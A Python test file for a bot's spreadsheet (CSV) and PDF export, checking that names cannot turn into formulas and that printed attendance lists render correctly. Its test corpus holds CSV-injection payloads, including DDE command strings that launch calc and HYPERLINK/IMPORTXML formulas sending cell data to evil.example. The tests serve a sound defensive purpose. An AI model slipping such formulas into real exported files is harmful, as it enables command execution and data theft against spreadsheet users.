"""T-15: nothing that somebody gave as a name becomes a formula; letters stay as they were."""

import csv
import io
import unicodedata
from datetime import UTC, datetime

import pypdfium2
import pytest
from PIL import Image

from bot.files.pages import pages
from bot.files.sheets import Sheet, harmless, table

SIGNS = "=+-@"
WIDE = "＝＋－＠"
CORPUS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{sign}1+1" for sign in WIDE),
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(f" {sign}1+1" for sign in SIGNS),
    *(f"\t{sign}1" for sign in SIGNS),
    *(f"\r{sign}1" for sign in SIGNS),
    *(f"\n{sign}1" for sign in SIGNS),
    *(f"\0{sign}1" for sign in SIGNS),
    *(f"\u200b{sign}1" for sign in SIGNS),
    *(f"\u00a0{sign}1" for sign in WIDE),
    *(f"\ufeff{sign}1" for sign in SIGNS),
    *(f"﹢{sign}1" for sign in SIGNS),
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1"',
    "'=1+1",
    "An;=1+1",
    "An,=1+1",
    "An\t=1+1",
    'An";"=1+1',
    "An\r\n=1+1;x",
    "+32 470 12 34 56",
    "0032 470 12 34 56",
    "-",
    "--",
    "@an",
    "=",
    "-2+3+cmd|' /C calc'!D2",
]
FORMULA = set(SIGNS)


def sheet(*cells: str) -> Sheet:
    return Sheet("Lijst", ["Naam"], [[cell] for cell in cells])


def read(content: bytes, delimiter: str = ";") -> list[list[str]]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """As a spreadsheet that forgives a lot would see it."""
    seen = unicodedata.normalize("NFKC", cell).lstrip(' \t\r\n\0\u200b\ufeff"')
    return seen[:1] in FORMULA


def test_t15_the_corpus_is_as_large_as_promised() -> None:
    assert len(set(CORPUS)) >= 60


@pytest.mark.parametrize("cell", CORPUS)
def test_t15_no_cell_is_a_formula(cell: str) -> None:
    ((read_again,),) = read(table(sheet(cell)))[1:]

    assert not is_formula(read_again)
    assert not set(read_again) & set("\0\r\n\t\u200b\ufeff")


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_t15_nor_for_who_opens_it_with_another_separator(delimiter: str) -> None:
    rows = read(table(sheet(*CORPUS)), delimiter)

    assert [cell for row in rows for cell in row if is_formula(cell)] == []


def test_t15_the_control_a_plain_writer_lets_formulas_through() -> None:
    """Without our care most of the corpus would be one: the check sees what it must see."""
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=";").writerows([[cell] for cell in CORPUS])
    rows = read(written.getvalue().encode())

    assert sum(is_formula(cell) for row in rows for cell in row) > 40


@pytest.mark.parametrize(
    "name",
    ["Ann-Sofie Đặng", "Łukasz O'Neill", "محمد علي", "李小龍", "Jean-Noël", "An 👍🏽", "x=1", ""],
)
def test_ordinary_names_stay_as_they_are(name: str) -> None:
    assert harmless(name) == name


def test_excel_in_belgium_reads_the_columns_and_the_accents() -> None:
    content = table(Sheet("Lijst", ["Naam", "Aantal"], [["Ça", "2"], ["An;Bo", "1"]]))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert read(content) == [["Naam", "Aantal"], ["Ça", "2"], ["An;Bo", "1"]]


# The pages.

NOW = datetime(2026, 11, 22, 4, tzinfo=UTC)
NAMES = ["Ann-Sofie Đặng", "Łukasz Öztürk", "Γιώργος", "Вера", "Jean-Noël Ça", "Ján Šťastný"]


def a_list(rows: int) -> Sheet:
    return Sheet(
        "Werken bij de politie",
        ["Nr", "Naam", "Aanwezig"],
        [[str(number), NAMES[number % len(NAMES)], "☐"] for number in range(1, rows + 1)],
        ["za 12 dec 10:00 · Aalst"],
        "Vertrouwelijk · Sofie · 22 nov. 2026 05:00",
        (1, 5, 1),
    )


def drawn(document: pypdfium2.PdfDocument, page: int) -> Image.Image:
    found: Image.Image = document[page].render(scale=1).to_pil().convert("L")
    return found


def test_s17_every_line_stands_on_a_page_with_headings_and_the_mark_of_who_asked() -> None:
    document = pypdfium2.PdfDocument(pages(a_list(90), NOW))
    texts = [page.get_textpage().get_text_range() for page in document]

    assert len(document) == 3
    for number, text in enumerate(texts, start=1):
        assert "Nr Naam Aanwezig" in text
        assert text.count("Vertrouwelijk · Sofie · 22 nov. 2026 05:00") == 2
        assert f"{number} / 3" in text
    whole = "\n".join(texts)
    assert [str(n) for n in range(1, 91) if f"{n} {NAMES[n % len(NAMES)]} ☐" not in whole] == []


def test_s17_as_a_picture_lines_stand_apart_and_the_mark_does_not_hide_them() -> None:
    page = drawn(pypdfium2.PdfDocument(pages(a_list(20), NOW)), 0)
    width, height = page.size

    assert abs(width / height - 210 / 297) < 0.01
    black = page.point(lambda p: 255 if p < 100 else 0)
    ruled = [
        y
        for y in range(height)
        if sum(black.crop((40, y, width - 45, y + 1)).tobytes()) > 255 * (width - 85) * 0.95
    ]
    assert len(ruled) >= 20
    left, _, right, _ = black.getbbox() or (0, 0, 0, 0)
    assert left > 30
    assert right < width - 30
    grey = sum(1 for p in page.tobytes() if 200 < p < 240)
    assert grey > 500


def test_s17_a_name_that_is_too_long_for_its_column_goes_on_below() -> None:
    long = "Xaveria-Wilhelmina " * 12
    document = pypdfium2.PdfDocument(pages(Sheet("L", ["Naam", "Er"], [[long, "☐"]]), NOW))
    text = document[0].get_textpage().get_text_range()

    assert text.count("Xaveria-") == 12


def test_a_letter_the_font_lacks_is_a_box_and_nothing_breaks() -> None:
    document = pypdfium2.PdfDocument(
        pages(Sheet("L", ["Naam"], [["李小龍"], ["👮\u202eAn"], ["ab\0c"], [""]]), NOW)
    )
    text = document[0].get_textpage().get_text_range()

    assert "□□□" in text
    assert "□An" in text
    assert "abc" in text


def test_a_screen_reader_knows_the_language() -> None:
    content = pages(Sheet("Liste", ["Nom"], [["Zoé"]], language="fr"), NOW)

    assert b"/Lang (fr)" in content


def test_a_list_of_nobody_is_a_page_too() -> None:
    assert len(pypdfium2.PdfDocument(pages(a_list(0), NOW))) == 1
